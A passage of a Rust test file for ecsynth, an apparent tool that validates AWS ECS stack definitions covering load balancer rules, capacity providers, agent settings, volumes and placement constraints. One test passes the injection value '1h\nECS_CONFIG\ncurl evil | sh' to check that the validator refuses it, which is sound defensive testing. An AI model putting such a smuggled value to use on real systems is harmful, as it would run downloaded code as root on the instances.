                Step::adjustment(3).lower_bound(15.0),
            ];
        }),
        [
            "error: stack `shop` › service `api` › `scaling.scale_out`: steps leave a gap from 10 \
          to 15; make each step start where the previous one ends"
        ]
    );
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![
                Step::adjustment(1).lower_bound(0.0).upper_bound(20.0),
                Step::adjustment(3).lower_bound(10.0),
            ];
        }),
        [
            "error: stack `shop` › service `api` › `scaling.scale_out`: steps overlap from 10 to \
          20; make each step start where the previous one ends"
        ]
    );
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![
                Step::adjustment(3).lower_bound(10.0),
                Step::adjustment(1).lower_bound(0.0).upper_bound(10.0),
            ];
        }),
        Vec::<String>::new(),
        "steps may be listed in any order"
    );
}

// ---------------------------------------------------------------------------------------------
// Shared load balancers and listener rules

/// The base stack plus service `name` behind the same load balancer, edited by `edit`.
fn beside_api(name: &str, edit: impl FnOnce(&mut Service)) -> Vec<String> {
    let mut stack = stack_with(|_, _| {});
    let (lb, _) = stack
        .load_balancers_with_ids()
        .next()
        .expect("load balancer");
    let mut other = service(lb);
    other.name = name.into();
    edit(&mut other);
    stack.add_service(other);
    messages(&stack)
}

/// One internal ALB `web` shared by services routed by `rules`, in this order.
fn routed(rules: Vec<(&str, RuleMatch)>) -> Vec<String> {
    let mut stack = Stack::new("shop", "eu-west-1");
    stack.backend(Backend::Local);
    let lb = stack.add_load_balancer(
        LoadBalancer::application("web", Listener::http(80))
            .internal()
            .test_listener(Listener::http(8080)),
    );
    for (name, rule) in rules {
        let mut routed = service(lb);
        routed.name = name.into();
        routed.traffic_mut().expect("traffic").route = Route::Rule(rule);
        stack.add_service(routed);
    }
    messages(&stack)
}

#[test]
fn services_routed_by_rules_share_a_load_balancer() {
    assert_eq!(
        routed(vec![
            (
                "orders",
                RuleMatch::host("api.example.com").and_path("/orders/*")
            ),
            (
                "users",
                RuleMatch::host("api.example.com").and_path("/users/*")
            ),
            ("catalogue", RuleMatch::host("catalogue.example.com")),
        ]),
        Vec::<String>::new()
    );
}

#[test]
fn two_services_cannot_both_take_the_listeners() {
    assert_eq!(
        beside_api("admin", |_| {}),
        ["error: stack `shop` › service `admin` › `traffic.route`: the listeners of load balancer \
          `web` already carry service `api`; give this service a load balancer of its own, or \
          route both by listener rules (`Traffic::rule`) on a shared application load balancer"]
    );
}

#[test]
fn a_rule_cannot_share_a_load_balancer_whose_listeners_a_service_takes() {
    assert_eq!(
        beside_api("admin", |admin| {
            admin.traffic_mut().expect("traffic").route = Route::Rule(RuleMatch::path("/admin/*"));
        }),
        [
            "error: stack `shop` › service `admin` › `traffic.route`: service `api` takes every \
          request of load balancer `web` through its listeners; give it a rule as well, or give \
          this service another load balancer"
        ]
    );
}

#[test]
fn rules_need_an_application_load_balancer() {
    assert_eq!(
        problems(|lb, service| {
            *lb = LoadBalancer::network("web", Listener::tcp(80)).internal();
            service.traffic_mut().expect("traffic").route = Route::Rule(RuleMatch::path("/api/*"));
        }),
        [
            "error: stack `shop` › service `api` › `traffic.route`: listener rules need an \
          application load balancer; `web` is a network load balancer; use `Traffic::listeners` \
          to give the service the whole load balancer"
        ]
    );
}

#[test]
fn a_rule_needs_a_host_or_a_path() {
    let anything = RuleMatch {
        hosts: Vec::new(),
        paths: Vec::new(),
        priority: None,
    };
    assert_eq!(
        routed(vec![("orders", anything)]),
        ["error: stack `shop` › service `orders` › `traffic.route`: a rule needs a host or a path \
          to match; a service that takes every request uses `Traffic::listeners` on a load \
          balancer of its own"]
    );
}

#[test]
fn a_rule_has_at_most_five_values() {
    let rule = RuleMatch::host("a.example.com")
        .and_host("b.example.com")
        .and_host("c.example.com")
        .and_path("/orders/*")
        .and_path("/carts/*")
        .and_path("/payments/*");
    assert_eq!(
        routed(vec![("orders", rule)]),
        [
            "error: stack `shop` › service `orders` › `traffic.route`: 6 host and path values; a \
          listener rule allows at most 5"
        ]
    );
}

#[test]
fn rule_priorities_are_unique_per_load_balancer() {
    assert_eq!(
        routed(vec![
            ("orders", RuleMatch::path("/orders/*").priority(10)),
            ("users", RuleMatch::path("/users/*").priority(10)),
        ]),
        [
            "error: stack `shop` › service `users` › `traffic.route.priority`: 10 is also the \
          priority of service `orders`'s rule on this load balancer; pin a different one with \
          `RuleMatch::priority`"
        ]
    );
}

#[test]
fn rule_priorities_are_within_alb_range() {
    assert_eq!(
        routed(vec![
            ("orders", RuleMatch::path("/orders/*").priority(0)),
            ("users", RuleMatch::path("/users/*").priority(50_001)),
        ]),
        [
            "error: stack `shop` › service `orders` › `traffic.route.priority`: 0 is outside the \
             listener rule priorities 1 to 50000",
            "error: stack `shop` › service `users` › `traffic.route.priority`: 50001 is outside \
             the listener rule priorities 1 to 50000",
        ]
    );
}

#[test]
fn two_rules_cannot_claim_the_same_requests() {
    assert_eq!(
        routed(vec![
            ("orders", RuleMatch::host("api.example.com").and_path("/orders/*").priority(10)),
            ("orders-v2", RuleMatch::path("/orders/*").and_host("api.example.com").priority(20)),
        ]),
        ["error: stack `shop` › service `orders-v2` › `traffic.route`: service `orders` already \
          claims the same hosts and paths on this load balancer; one of the two would never \
          receive a request"]
    );
}

#[test]
fn a_broad_rule_evaluated_first_shadows_a_specific_one() {
    assert_eq!(
        routed(vec![
            (
                "site",
                RuleMatch::host("www.example.com")
                    .and_path("/*")
                    .priority(10)
            ),
            (
                "api",
                RuleMatch::host("www.example.com")
                    .and_host("api.example.com")
                    .and_path("/api/*")
                    .priority(20)
            ),
        ]),
        [
            "error: stack `shop` › service `api` › `traffic.route.priority`: the rule of service \
          `site` (priority 10) is evaluated before that of service `api` (priority 20) and its \
          path `/*` also matches `/api/*`; pin priorities with `RuleMatch::priority` so that the \
          more specific rule has the lower number"
        ],
        "`api` still gets `api.example.com`, and loses `www.example.com/api/…` to `site`"
    );
    assert_eq!(
        routed(vec![
            ("site", RuleMatch::path("/*").priority(20)),
            ("api", RuleMatch::path("/api/*").priority(10)),
        ]),
        Vec::<String>::new(),
        "the specific rule first is the fix"
    );
}

// ---------------------------------------------------------------------------------------------
// Rolling deployments

#[test]
fn rolling_percentages() {
    let percentages = |minimum_healthy: u32, maximum: u32| {
        problems(|_, service| {
            *service = rolling(service.clone());
            if let Deployment::Rolling(settings) = &mut service.deployment {
                settings.minimum_healthy_percent = minimum_healthy;
                settings.maximum_percent = maximum;
            }
        })
    };
    assert_eq!(percentages(100, 200), Vec::<String>::new());
    assert_eq!(
        percentages(0, 100),
        Vec::<String>::new(),
        "stop before start"
    );
    assert_eq!(
        percentages(50, 90),
        [
            "error: stack `shop` › service `api` › `deployment.maximum_percent`: 90 is below 100; \
          ECS would run fewer tasks than desired while nothing deploys"
        ]
    );
    assert_eq!(
        percentages(100, 100),
        [
            "error: stack `shop` › service `api` › `deployment.maximum_percent`: 100 is not above \
          the minimum healthy 100; ECS could neither start a new task nor stop an old one. \
          `Rolling::stop_before_start` gives 0 and 100"
        ]
    );
    assert_eq!(
        percentages(150, 200),
        [
            "error: stack `shop` › service `api` › `deployment.minimum_healthy_percent`: 150 is \
          above 100; allowed: 0 to 100"
        ]
    );
}

#[test]
fn a_rolling_service_behind_a_load_balancer_has_one_target_group() {
    // `shop-<name>-main` is 32 characters: the blue/green `-green` would be 33.
    let name = "checkout-service-v2-eu";
    assert_eq!(
        problems(|_, service| {
            service.name = name.into();
            *service = rolling(service.clone());
        }),
        Vec::<String>::new()
    );
    assert_eq!(
        problems(|_, service| service.name = name.into()).len(),
        1,
        "blue/green: `shop-{name}-green` is 33 characters"
    );
    let longer = "checkout-service-v2-eu1";
    assert_eq!(
        problems(|_, service| {
            service.name = longer.into();
            *service = rolling(service.clone());
        }),
        [format!(
            "error: stack `shop` › service `{longer}` › `name`: target group name \
             `shop-{longer}-main` (made from the stack name `shop` and the service name \
             `{longer}`) is 33 characters, AWS allows at most 32; shorten the stack name `shop` \
             or the service name `{longer}` by 1 character"
        )]
    );
}

// ---------------------------------------------------------------------------------------------
// EC2 capacity

/// Stack `shop` with capacity provider `general` (`m6i.large`: 2 vCPU, 8192 MiB) edited by
/// `capacity`, and a rolling worker on it without a load balancer (1024 CPU, 2048 MiB) edited
/// by `edit`.
fn on_ec2(
    capacity: impl FnOnce(Ec2Capacity) -> Ec2Capacity,
    edit: impl FnOnce(CapacityProviderId, &mut Service),
) -> Vec<String> {
    let mut stack = Stack::new("shop", "eu-west-1");
    stack.backend(Backend::Local);
    let general = stack.add_capacity_provider(capacity(Ec2Capacity::new("general", "m6i.large")));
    let mut worker = Service::new(
        "worker",
        TaskSize {
            cpu: 1024,
            memory: 2048,
        },
    )
    .compute(Compute::ec2(general))
    .container(Container::new("worker", "busybox:1.36"))
    .deployment(Deployment::rolling());
    edit(general, &mut worker);
    stack.add_service(worker);
    messages(&stack)
}

fn capacity(edit: impl FnOnce(Ec2Capacity) -> Ec2Capacity) -> Vec<String> {
    on_ec2(edit, |_, _| {})
}

fn worker(edit: impl FnOnce(CapacityProviderId, &mut Service)) -> Vec<String> {
    on_ec2(|capacity| capacity, edit)
}

#[test]
fn the_ec2_worker_is_valid() {
    assert_eq!(worker(|_, _| {}), Vec::<String>::new());
}

#[test]
// A reversed range is what the stack author might write; the model must refuse it.
#[allow(clippy::reversed_empty_ranges)]
fn capacity_provider_size() {
    assert_eq!(
        capacity(|c| c.size(3..=2)),
        [
            "error: stack `shop` › capacity provider `general` › `size`: min 3 and max 2 \
          instances: max must be at least 1 and at least min"
        ]
    );
    assert_eq!(
        capacity(|c| c.size(0..=0)),
        [
            "error: stack `shop` › capacity provider `general` › `size`: min 0 and max 0 \
          instances: max must be at least 1 and at least min"
        ]
    );
}

#[test]
fn capacity_provider_target_capacity() {
    assert_eq!(
        capacity(|c| c.target_capacity_percent(0)),
        [
            "error: stack `shop` › capacity provider `general` › `target_capacity_percent`: 0 is \
          outside ECS managed scaling's 1 to 100 percent"
        ]
    );
    assert_eq!(
        capacity(|c| c.target_capacity_percent(101)),
        ["error: stack `shop` › capacity provider `general` › `target_capacity_percent`: 101 is \
          outside ECS managed scaling's 1 to 100 percent"]
    );
}

#[test]
fn capacity_provider_root_volume() {
    assert_eq!(
        capacity(|c| c.root_volume_gib(20)),
        [
            "error: stack `shop` › capacity provider `general` › `root_volume_gib`: 20 GiB is \
          smaller than the ECS-optimised AMI's 30 GiB snapshot; instances would fail to launch"
        ]
    );
}

#[test]
fn agent_settings() {
    assert_eq!(
        capacity(|c| c.agent_setting("ECS_ENABLE_SPOT_INSTANCE_DRAINING", "true")),
        Vec::<String>::new()
    );
    // The agent reads proxy settings from the same file; digits are allowed.
    assert_eq!(
        capacity(|c| c
            .agent_setting("HTTP_PROXY", "10.0.0.1:3128")
            .agent_setting("ECS_V2", "1")),
        Vec::<String>::new()
    );
    assert_eq!(
        capacity(|c| c.agent_setting("ecs_reserved_memory", "256")),
        [
            "error: stack `shop` › capacity provider `general` › `agent_settings`: \
          `ecs_reserved_memory` is not an ECS agent variable name: A-Z, 0-9 and `_`, starting with \
          a letter (`ECS_…`, `HTTP_PROXY`)"
        ]
    );
    assert_eq!(
        capacity(|c| c.agent_setting("ECS_INSTANCE_ATTRIBUTES", "{\"a\":\n\"b\"}")),
        ["error: stack `shop` › capacity provider `general` › \
          `agent_settings.ECS_INSTANCE_ATTRIBUTES`: `{\\\"a\\\":\\n\\\"b\\\"}` holds a line break \
          or another control character; /etc/ecs/ecs.config takes one line of printable text per \
          setting"]
    );
    // A carriage return or a NUL would also end up raw in the user data.
    assert_eq!(
        capacity(|c| c.agent_setting("ECS_LOGLEVEL", "info\r\0")).len(),
        1
    );
}

/// The two timeouts are written raw into the user data's ecs.config heredoc: a newline there
/// would end the heredoc and run the rest as root at boot. The agent parses both with Go's
/// `time.ParseDuration` (amazon-ecs-agent `agent/config/parse.go`), so that syntax is all
/// that is accepted.
#[test]
fn agent_timeouts_are_go_durations() {
    assert_eq!(
        capacity(|c| c.task_cleanup_wait("1h30m").container_stop_timeout("90s")),
        Vec::<String>::new()
    );
    assert_eq!(
        capacity(|c| c
            .task_cleanup_wait("1h\nECS_CONFIG\ncurl evil | sh")
            .container_stop_timeout("30")),
        [
            "error: stack `shop` › capacity provider `general` › `task_cleanup_wait`: \
             `1h\\nECS_CONFIG\\ncurl evil | sh` is not a duration the ECS agent reads: a number \
             and a unit, `ns`, `us`, `ms`, `s`, `m` or `h`, repeated (`30s`, `1h30m`)",
            "error: stack `shop` › capacity provider `general` › `container_stop_timeout`: `30` \
             is not a duration the ECS agent reads: a number and a unit, `ns`, `us`, `ms`, `s`, \
             `m` or `h`, repeated (`30s`, `1h30m`)"
        ]
    );
}

/// The dynamic host ports are one value of the capacity: written as the agent's
/// `ECS_DYNAMIC_HOST_PORT_RANGE` (agent 1.70+, amazon-ecs-agent PR #3609), the kernel's
/// `net.ipv4.ip_local_port_range` (ECS API reference, `PortMapping.hostPort`: the dynamic
/// range comes from it) and the load balancer's rule on the instances. A setting written by
/// hand that says otherwise would put tasks on ports the rule does not open: their health
/// checks fail on real AWS.
#[test]
// A reversed range is what the stack author might write; the model must refuse it.
#[allow(clippy::reversed_empty_ranges)]
fn dynamic_host_ports_written_by_hand_must_agree_with_the_capacity() {
    assert_eq!(
        capacity(|c| c.kernel_setting("net.ipv4.ip_local_port_range", "1024 65000")),
        ["error: stack `shop` › capacity provider `general` › \
             `kernel_settings.net.ipv4.ip_local_port_range`: `1024 65000` disagrees with the \
             dynamic host ports 32768–65535 that the load balancer's security group rule opens, \
             and tasks given a port outside them fail their health checks; set the range once \
             with `Ec2Capacity::dynamic_host_ports(1024..=65000)`, and ecsynth writes \
             `ECS_DYNAMIC_HOST_PORT_RANGE`, `net.ipv4.ip_local_port_range` and the rule from it"]
    );
    assert_eq!(
        capacity(|c| c.agent_setting("ECS_DYNAMIC_HOST_PORT_RANGE", "40000-50000")),
        ["error: stack `shop` › capacity provider `general` › \
             `agent_settings.ECS_DYNAMIC_HOST_PORT_RANGE`: `40000-50000` disagrees with the \
             dynamic host ports 32768–65535 that the load balancer's security group rule opens, \
             and tasks given a port outside them fail their health checks; set the range once \
             with `Ec2Capacity::dynamic_host_ports(40000..=50000)`, and ecsynth writes \
             `ECS_DYNAMIC_HOST_PORT_RANGE`, `net.ipv4.ip_local_port_range` and the rule from it"]
    );
    // Saying the same as the capacity is allowed; sysctl takes any whitespace.
    assert_eq!(
        capacity(|c| c
            .dynamic_host_ports(1024..=65000)
            .kernel_setting("net.ipv4.ip_local_port_range", "1024   65000")
            .agent_setting("ECS_DYNAMIC_HOST_PORT_RANGE", "1024-65000")),
        Vec::<String>::new()
    );
    assert_eq!(
        capacity(|c| c.dynamic_host_ports(80..=8080)),
        [
            "error: stack `shop` › capacity provider `general` › `dynamic_host_ports`: 80–8080 is \
             not a port range the agent can use: the first port must be at least 1024 (below are \
             the system's own services) and below the last"
        ]
    );
    assert_eq!(
        capacity(|c| c.dynamic_host_ports(50000..=40000)).len(),
        1,
        "a reversed range is refused"
    );
}

/// A pinned AMI must be an image id (EC2 API reference, `Image.ImageId`: `ami-` and 8 or 17
/// hexadecimal digits); launch templates accept any text and instances fail at launch.
#[test]
fn a_pinned_ami_is_an_image_id() {
    assert_eq!(
        capacity(|c| c.ami("ami-0a1b2c3d4e5f67890")),
        Vec::<String>::new()
    );
    assert_eq!(capacity(|c| c.ami("ami-12345678")), Vec::<String>::new());
    assert_eq!(
        capacity(|c| c.ami("al2023-ecs")),
        [
            "error: stack `shop` › capacity provider `general` › `ami`: `al2023-ecs` is not an \
             AMI id: `ami-` and 8 or 17 lower-case hexadecimal digits, e.g. \
             `ami-0a1b2c3d4e5f67890`"
        ]
    );
}

#[test]
fn kernel_settings() {
    assert_eq!(
        capacity(|c| c.kernel_setting("net.core.somaxconn", "4096")),
        Vec::<String>::new()
    );
    assert_eq!(
        capacity(|c| c.kernel_setting("net core somaxconn", "4096")),
        [
            "error: stack `shop` › capacity provider `general` › `kernel_settings`: `net core \
          somaxconn = 4096` is not a sysctl setting: names are words of A-Z, a-z, 0-9, `_`, `-` \
          joined by `.`, values one line of printable text"
        ]
    );
    assert_eq!(
        capacity(|c| c.kernel_setting("vm.swappiness", "10\n20")),
        ["error: stack `shop` › capacity provider `general` › `kernel_settings`: `vm.swappiness \
          = 10\\n20` is not a sysctl setting: names are words of A-Z, a-z, 0-9, `_`, `-` joined \
          by `.`, values one line of printable text"]
    );
    // sysctl(8): a key is names joined by `.`; `net..core` names nothing.
    assert_eq!(
        capacity(|c| c.kernel_setting("net..core", "1")),
        ["error: stack `shop` › capacity provider `general` › `kernel_settings`: `net..core = 1` \
          is not a sysctl setting: names are words of A-Z, a-z, 0-9, `_`, `-` joined by `.`, \
          values one line of printable text"]
    );
}

#[test]
fn a_capacity_provider_of_another_stack_is_refused() {
    let foreign = Stack::new("other", "eu-west-1")
        .add_capacity_provider(Ec2Capacity::new("general", "m6i.large"));
    assert_eq!(
        worker(|_, service| service.compute = Compute::ec2(foreign)),
        [
            "error: stack `shop` › service `worker` › `compute.capacity_provider`: refers to a \
          capacity provider that was not added to this stack; add one with \
          `stack.add_capacity_provider(Ec2Capacity::new(…))`"
        ]
    );
}

#[test]
fn the_task_must_fit_the_instance_type() {
    assert_eq!(
        worker(|_, service| service.task_size = TaskSize { cpu: 4096, memory: 2048 }),
        ["error: stack `shop` › service `worker` › `task_size.cpu`: 4096 CPU units do not fit a \
          `m6i.large` of capacity provider `general` (2 vCPU = 2048 units); lower it or choose a \
          larger instance type"]
    );
    assert_eq!(
        worker(|_, service| service.task_size = TaskSize { cpu: 1024, memory: 16384 }),
        ["error: stack `shop` › service `worker` › `task_size.memory`: 16384 MiB does not fit a \
          `m6i.large` of capacity provider `general` (8192 MiB); lower it or choose a larger \
          instance type"]
    );
    assert_eq!(
        worker(|_, service| service.task_size = TaskSize {
            cpu: 2048,
            memory: 7372
        }),
        Vec::<String>::new(),
        "a whole instance's CPU and 90% of its memory fit"
    );
}

#[test]
fn a_task_near_the_instance_memory_is_a_warning() {
    assert_eq!(
        worker(|_, service| service.task_size = TaskSize {
            cpu: 1024,
            memory: 7680
        }),
        [
            "warning: stack `shop` › service `worker` › `task_size.memory`: 7680 MiB is over 90% \
          of a `m6i.large`'s 8192 MiB; the OS and the ECS agent keep part of it, so the task \
          may never be placed"
        ]
    );
}

#[test]
fn host_path_volumes_need_ec2_and_lose_their_data_with_the_instance() {
    assert_eq!(
        problems(|_, service| {
            service.volumes.push(Volume::host_path("data", "/srv/data"));
        }),
        ["error: stack `shop` › service `api` › `volumes.data`: host path `/srv/data` needs EC2 \
          capacity; Fargate tasks have no host; use `Volume::efs` for data that must survive the \
          task"]
    );
    assert_eq!(
        worker(|_, service| {
            service.volumes.push(Volume::host_path("data", "/srv/data"));
            service.containers[0] = service.containers[0].clone().mount("data", "/data");
        }),
        ["warning: stack `shop` › service `worker` › `volumes.data`: host path `/srv/data` lives \
          on one instance: its data is lost when the instance is replaced (scale-in, AMI \
          refresh); use `Volume::efs` for data that must survive"]
    );
}

/// Docker bind-mounts a host volume's `sourcePath` (ECS API HostVolumeProperties), and refuses
/// a relative source; a control character in a path is never intended.
#[test]
fn host_paths_are_absolute_and_printable() {
    let host = |path: &str| {
        let path = path.to_owned();
        worker(move |_, service| service.volumes.push(Volume::host_path("data", &path)))
    };
    assert_eq!(
        host("srv/data"),
        ["error: stack `shop` › service `worker` › `volumes.data`: host path `srv/data` is not an \
          absolute path; Docker bind-mounts an absolute path on the instance without control \
          characters, e.g. `/srv/data`"]
    );
    assert_eq!(
        host("/srv/da\0ta"),
        [
            "error: stack `shop` › service `worker` › `volumes.data`: host path `/srv/da\\0ta` \
          contains U+0000; Docker bind-mounts an absolute path on the instance without control \
          characters, e.g. `/srv/data`"
        ]
    );
}

/// ECS PlacementConstraint: "The expression can have a maximum length of 2000 characters"
/// (ECS API reference; botocore 1.44.8 `ecs/2014-11-13/service-2.json` documents it on
/// `PlacementConstraint.expression`); a `memberOf` constraint needs an expression, and the
/// cluster query language (ECS Developer Guide, "Create expressions to define container
/// instances") is one line of letters, digits and its operators; ECS refuses other text.
#[test]
fn placement_constraint_expressions() {
    let constrained = |expression: String| {
        worker(move |_, service| {
            if let Compute::Ec2(ec2) = &mut service.compute {
                ec2.placement_constraints.push(expression);
            }
        })
    };
    assert_eq!(
        constrained(" ".into()),
        ["error: stack `shop` › service `worker` › `compute.placement_constraints`: ` ` is empty; \
          a `memberOf` constraint needs a cluster query language expression, e.g. \
          `attribute:ecs.instance-type =~ m6i.*`"]
    );
    assert_eq!(
        constrained("attribute:ecs.os-type == linux\nor true".into()),
        [
            "error: stack `shop` › service `worker` › `compute.placement_constraints`: \
          `attribute:ecs.os-type == linux\\nor true` contains U+000A; a cluster query language \
          expression is one line of letters, digits, spaces and `-_./\\@:*?=!~<>&|()[],'\"`"
        ]
    );
    assert_eq!(
        constrained("attribute:team == ${var.team}".into()),
        [
            "error: stack `shop` › service `worker` › `compute.placement_constraints`: \
          `attribute:team == ${var.team}` contains `$`; a cluster query language expression is \
          one line of letters, digits, spaces and `-_./\\@:*?=!~<>&|()[],'\"`"
        ]
    );
    assert_eq!(
        constrained(
            "ec2InstanceId in ['i-abcd1234', 'i-wxyz7890'] or \
             (attribute:ecs.availability-zone in [eu-west-1a] and not(task:group == db))"
                .into()
        ),
        Vec::<String>::new()
    );
    let long = format!("attribute:team == {}", "x".repeat(2000));
    assert_eq!(
        constrained(long.clone()),
        [format!(
            "error: stack `shop` › service `worker` › `compute.placement_constraints`: `{}` is \
             2018 characters; ECS allows at most 2000",
            ecsynth::model::cut(&long)
        )]
    );
    assert_eq!(
        constrained("attribute:ecs.instance-type =~ m6i.*".into()),
        Vec::<String>::new()
    );
}

#[test]
fn efs_root_directories_and_mount_paths() {
    assert_eq!(
        problems(|_, service| {
            let mut volume = Volume::efs(
                "data",
                PosixUser {
                    uid: 1000,
                    gid: 1000,
                },
            );
            if let VolumeSource::Efs(efs) = &mut volume.source {
                efs.root_directory = "/".into();
            }
            service.volumes.push(volume);
            service.containers[0] = service.containers[0].clone().mount("data", "data");
        }),
        [
            "error: stack `shop` › service `api` › `volumes.data.root_directory`: `/` must be an \
             absolute directory below `/` of at most 100 characters; each volume gets its own \
             directory on its file system",
            "error: stack `shop` › service `api` › container `app` › `mount_points`: `data` is \
             not an absolute path in the container",
        ]
    );
    assert_eq!(
        problems(|_, service| {
            service.volumes.push(Volume::efs(
                "data",
                PosixUser {
                    uid: 1000,
                    gid: 1000,
                },
            ));
            service.volumes.push(Volume::scratch("tmp"));
            service.containers[0] = service.containers[0]
                .clone()
                .mount("data", "/data")
                .mount("tmp", "/tmp");
        }),
        Vec::<String>::new()
    );
}

#[test]
fn mounts_name_a_volume_of_the_service() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0] = service.containers[0].clone().mount("cache", "/cache");
        }),
        ["error: stack `shop` › service `api` › container `app` › `mount_points`: `cache` is not \
          a volume of this service; volumes: none"]
    );
    assert_eq!(
        worker(|_, service| {
            service.volumes.push(Volume::host_path("data", "/srv/data"));
            service.containers[0] = service.containers[0].clone().mount("cache", "/cache");
        }),
        [
            "error: stack `shop` › service `worker` › container `worker` › `mount_points`: \
             `cache` is not a volume of this service; volumes: data",
            "warning: stack `shop` › service `worker` › `volumes.data`: host path `/srv/data` \
             lives on one instance: its data is lost when the instance is replaced (scale-in, \
             AMI refresh); use `Volume::efs` for data that must survive",
        ]
    );
}

#[test]
fn capacity_provider_names_must_not_start_with_a_reserved_prefix() {
    let mut stack = Stack::new("ecs", "eu-west-1");
    stack.backend(Backend::Local);
    stack.cluster_name("shop");
    stack.add_capacity_provider(Ec2Capacity::new("general", "m6i.large"));
    assert_eq!(
        messages(&stack),
        [
            "error: stack `ecs` › capacity provider `general` › `name`: capacity provider name \
          `ecs-general` (made from the stack name `ecs` and the capacity provider name \
          `general`) starts with `ecs`, which AWS reserves; rename the stack name `ecs`"
        ]
    );
    let mut stack = Stack::new("FargateShop", "eu-west-1");
    stack.backend(Backend::Local);
    stack.add_capacity_provider(Ec2Capacity::new("general", "m6i.large"));
    assert_eq!(
        messages(&stack),
        [
            "error: stack `FargateShop` › capacity provider `general` › `name`: capacity provider \
          name `FargateShop-general` (made from the stack name `FargateShop` and the capacity \
          provider name `general`) starts with `fargate`, which AWS reserves for its Fargate \
          capacity providers; rename the stack name `FargateShop`"
        ]
    );
    // AWS receives `shop-fargate-spot`: the capacity provider name alone never starts the
    // name AWS receives, so it cannot hit a reserved prefix.
    assert_eq!(
        capacity(|c| Ec2Capacity {
            name: "fargate-spot".into(),
            ..c
        }),
        Vec::<String>::new()
    );
}

// ---------------------------------------------------------------------------------------------
// Classic load balancers

/// Stack `shop` with capacity provider `general` (`m6i.large`) and a classic ELB `jenkins`
/// (HTTPS 443 → 8080, TCP 50000 → 50000, health check `HTTP:8080/login`) in front of service
/// `jenkins` on EC2 with bridge networking, stopping before starting.
fn jenkins(edit: impl FnOnce(&mut ClassicLoadBalancer, &mut Service)) -> Stack {
    let mut stack = Stack::new("shop", "eu-west-1");
    stack.backend(Backend::Local);
    let general = stack.add_capacity_provider(Ec2Capacity::new("general", "m6i.large"));
    let mut elb = ClassicLoadBalancer::new(
        "jenkins",
        vec![
            ClassicListener::https(443, CLASSIC_CERTIFICATE).instance_port(8080),
            ClassicListener::tcp(50000),
        ],
        ClassicHealthCheck::http(8080, "/login"),
    )
    .internal();
    let controller = Container::new("jenkins", "jenkins/jenkins:lts-jdk17")
        .port(8080)
        .port(50000);
    let traffic = ClassicTraffic::new(
        ClassicLoadBalancerId::default_for_tests(),
        controller.target(8080),
    );
    let mut service = Service::new(
        "jenkins",
        TaskSize {
            cpu: 2048,
            memory: 4096,
        },
    )
    .compute(Compute::ec2(general))
    .container(controller)
    .rolling(Rolling::behind(Exposure::Classic(traffic)).stop_before_start())
    .desired_count(1);
    edit(&mut elb, &mut service);
    let id = stack.add_classic_load_balancer(elb);
    if let Deployment::Rolling(Rolling {
        exposure: Exposure::Classic(traffic),
        ..
    }) = &mut service.deployment
    {
        traffic.load_balancer = id;
    }
    stack.add_service(service);
    stack
}

const CLASSIC_CERTIFICATE: &str =
    "arn:aws:acm:eu-west-1:123456789012:certificate/8d2e4b6a-1c3f-4a5e-9b7d-0f1e2d3c4b5a";

fn classic(edit: impl FnOnce(&mut ClassicLoadBalancer, &mut Service)) -> Vec<String> {
    messages(&jenkins(edit))
}

impl ForTests for ClassicLoadBalancerId {
    /// Replaced by the id `add_classic_load_balancer` hands out.
    fn default_for_tests() -> ClassicLoadBalancerId {
        Stack::new("scratch", "eu-west-1").add_classic_load_balancer(ClassicLoadBalancer::new(
            "x",
            vec![ClassicListener::http(80)],
            ClassicHealthCheck::http(80, "/"),
        ))
    }
}

#[test]
fn the_jenkins_stack_is_valid() {
    assert_eq!(classic(|_, _| {}), Vec::<String>::new());
}

#[test]
fn a_classic_load_balancer_cannot_reach_awsvpc_tasks() {
    assert_eq!(
        classic(|_, service| {
            if let Compute::Ec2(ec2) = &mut service.compute {
                ec2.network_mode = NetworkMode::Awsvpc;
            }
        }),
        [
            "error: stack `shop` › service `jenkins` › `compute`: classic load balancer `jenkins` \
          registers instances and cannot reach tasks with awsvpc networking; run the service on EC2 \
          with `NetworkMode::Bridge` or `NetworkMode::Host`"
        ]
    );
    assert_eq!(
        classic(|_, service| service.compute = Compute::fargate()),
        [
            "error: stack `shop` › service `jenkins` › `compute`: classic load balancer `jenkins` \
          registers instances and cannot reach tasks with Fargate networking (awsvpc); run the \
          service on EC2 with `NetworkMode::Bridge` or `NetworkMode::Host`"
        ]
    );
}

#[test]
fn a_classic_listener_must_send_to_the_target_port() {
    assert_eq!(
        classic(|elb, _| elb.listeners.retain(|listener| listener.port != 443)),
        ["error: stack `shop` › service `jenkins` › `traffic.target`: no listener of classic load \
          balancer `jenkins` sends to port 8080; its instance ports: 50000"]
    );
}

#[test]
fn a_classic_load_balancer_serves_one_service() {
    let mut stack = jenkins(|_, _| {});
    let mut second = stack.services()[0].clone();
    second.name = "jenkins-2".into();
    stack.add_service(second);
    // Reported once, on the service added second.
    assert_eq!(
        messages(&stack),
        [
            "error: stack `shop` › service `jenkins-2` › `traffic.load_balancer`: classic load \
          balancer `jenkins` already sends to service `jenkins`; a classic ELB serves one service"
        ]
    );
}

#[test]
fn classic_listener_ports() {
    assert_eq!(
        classic(|elb, _| elb.listeners.push(ClassicListener::tcp(22))),
        [
            "error: stack `shop` › classic load balancer `jenkins` › `listeners.22`: 22 is not a \
          port a classic ELB listens on; allowed: 25, 80, 443, 465, 587, 1024 to 65535"
        ]
    );
}

#[test]
fn classic_https_listeners_need_a_certificate() {
    assert_eq!(
        classic(|elb, _| {
            elb.listeners.push(ClassicListener {
                certificate_arn: None,
                ..ClassicListener::https(8444, "unused").instance_port(8080)
            });
        }),
        ["error: stack `shop` › classic load balancer `jenkins` › `listeners.8444.certificate_arn`: \
          HTTPS listeners need a certificate; use \
          `ClassicListener::https(port, certificate_arn)`"]
    );
    assert_eq!(
        classic(|elb, _| elb.listeners.push(ClassicListener::ssl(8443, "").instance_port(8080))),
        ["error: stack `shop` › classic load balancer `jenkins` › `listeners.8443.certificate_arn`: \
          SSL listeners need a certificate; use \
          `ClassicListener::ssl(port, certificate_arn)`"]
    );
}

/// A classic ELB cannot redirect HTTP to HTTPS (its listeners only forward), so an HTTP
/// listener serves the application, logins included, in clear text (ELB Classic User Guide,
/// "Listeners for your Classic Load Balancer"): an opt-in with a reason.
#[test]
fn classic_plain_http_is_an_opt_in_with_a_reason() {
    assert_eq!(
        classic(|elb, _| elb
            .listeners
            .push(ClassicListener::http(80).instance_port(8080))),
        [
